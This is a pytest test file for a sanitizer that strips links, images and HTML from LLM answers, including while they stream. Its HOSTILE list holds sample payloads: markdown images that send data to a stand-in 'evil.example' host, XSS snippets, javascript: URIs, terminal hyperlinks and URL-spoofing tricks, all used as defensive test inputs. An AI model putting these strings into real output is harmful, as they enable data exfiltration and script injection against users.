"""No link, image or HTML is left in an answer, nor while it is written."""

import random

import pytest
from markdown_it import MarkdownIt

from llm.answer.harmless import HarmlessStream, harmless

SOURCES = ["报修请访问 https://it.example.com/help?id=3。", "Write to it@example.com, or call us."]

HOSTILE = [
    "![x](https://evil.example/?d=600)",
    "![图表](data:image/png;base64,iVBORw0KGgo=)",
    "![a](https://evil.example/a(b)c 'title')",
    "![a][ref]\n\n[ref]: https://evil.example",
    "[![a](http://evil.example/b)](http://evil.example/c)",
    "[click](javascript:alert(1))",
    "[here](<https://evil.example>)",
    "[1]\n\n[1]: https://evil.example",
    "<https://evil.example>",
    "<me@evil.example>",
    "see www.evil.example/?d=1, please",
    "javascript:alert(1)",
    "data:text/html,<b>x</b>",
    "ftp://evil.example/x mailto:x@evil.example tel:+123",
    "<img src=x onerror=alert(1)>",
    "<IMG\nSRC='https://evil.example'>",
    "<svg/onload=alert(1)>",
    "<x onclick=alert(1)>text</x>",
    "<script>alert(1)</script>",
    "<iframe src=https://evil.example></iframe>",
    "<a href='https://evil.example'>click</a>",
    "<!-- <img src=x> -->",
    "ht<b>tps://evil.example",
    "https:\u200b//evil.example",
    "![x](htt<b></b>ps://evil.example)",
    "\x1b]8;;https://evil.example\x1b\\here\x1b]8;;\x1b\\",
    "https://it.example.com.evil.example/help?id=3",
    "https://it.example.com@evil.example/help?id=3",
    "https://it.example.com/help?id=3&d=SECRET",
    "notit@example.com",
    "![unfinished](https://evil.example/?d=60",
    "<img src=https://evil.example",
]
LIVE = MarkdownIt("commonmark", {"html": True})


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_of_it_is_live(text: str) -> None:
    for whole in (text, f"上限是600元[1]。{text}。", f"It is 600. {text} [2]"):
        left = harmless(whole, SOURCES)
        shown = LIVE.render(left)
        assert not any(tag in shown for tag in ("<a", "<img", "<script", "<svg", "<iframe", "<x"))
        assert "evil.example" not in left
        assert "\x1b" not in left
        assert harmless(left, SOURCES) == left


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("seed", range(5))
def test_nor_is_it_while_it_is_written(text: str, seed: int) -> None:
    stream, chance = HarmlessStream(SOURCES), random.Random(seed)  # noqa: S311
    whole, shown, at = f"上限是600元[1]。{text} End.", "", 0
    while at < len(whole):
        size = chance.randint(1, 6)
        shown += stream.add(whole[at : at + size])
        at += size
        assert "evil.example/" not in shown
    shown += stream.rest()
    assert shown.startswith("上限是600元[1]。")
    rendered = LIVE.render(shown)
    assert not any(tag in rendered for tag in ("<a", "<img", "<script", "<svg", "<iframe", "<x"))


@pytest.mark.parametrize(
    "text",
    [
        "上限是600元[1][2]，见第3页（附表）。",
        "# Title\n\n- **600** per night [1]\n- `kb remove <doc>`\n\n| a | b |\n|---|---|",
        "if a < b and c > d, then a <b and c> d; 1<2",
        "The data: 5, the ratio is 3:4, at 10:30. e.g. and/or, 1/2, i.e.",
        "![ is no image, [ no link, (1) a list",
        "数据：见表[1]：600元",
    ],
)
def test_other_text_is_left_as_it_is(text: str) -> None:
    assert harmless(text, SOURCES) == text
    stream = HarmlessStream(SOURCES)
    assert "".join(map(stream.add, text)) + stream.rest() == text


def test_chinese_is_shown_at_once_and_english_word_for_word() -> None:
    stream = HarmlessStream([])
    assert [stream.add(c) for c in "上限600元[1]。"] == [
        "上", "限", "", "", "", "600元", "", "", "", "[1]。",
    ]  # fmt: skip
    assert [stream.add(word) for word in ("It", " is", " 600.")] == ["", "It ", "is "]
    assert stream.rest() == "600."


@pytest.mark.parametrize(
    ("written", "left"),
    [
        ("见 https://it.example.com/help?id=3。", "见 https://it.example.com/help?id=3。"),
        ("(https://it.example.com/help?id=3).", "(https://it.example.com/help?id=3)."),
        ("<https://it.example.com/help?id=3>", "https://it.example.com/help?id=3"),
        ("[报修](https://it.example.com/help?id=3)", "报修 (https://it.example.com/help?id=3)"),
        ("![报修](https://it.example.com/help?id=3)", "报修"),
        ("写信到it@example.com。", "写信到it@example.com。"),
        ("[it@example.com](mailto:it@example.com)", "it@example.com"),
        ("见 https://it.example.com/help。", "见 。"),
    ],
)
def test_an_address_of_the_sources_stays_as_text(written: str, left: str) -> None:
    assert harmless(written, SOURCES) == left


def test_a_remark_behind_a_citation_is_no_link_to_it() -> None:
    assert harmless("600元[1](2024年版)。", []) == "600元[1] (2024年版)。"
    assert harmless("600元[1](https://evil.example)。", []) == "600元[1]。"
    assert harmless("[1]: 600元", []) == "[1] 600元"
    assert "<a" not in LIVE.render(harmless("600元[1]。\n\n> [1]: //evil.example", []))
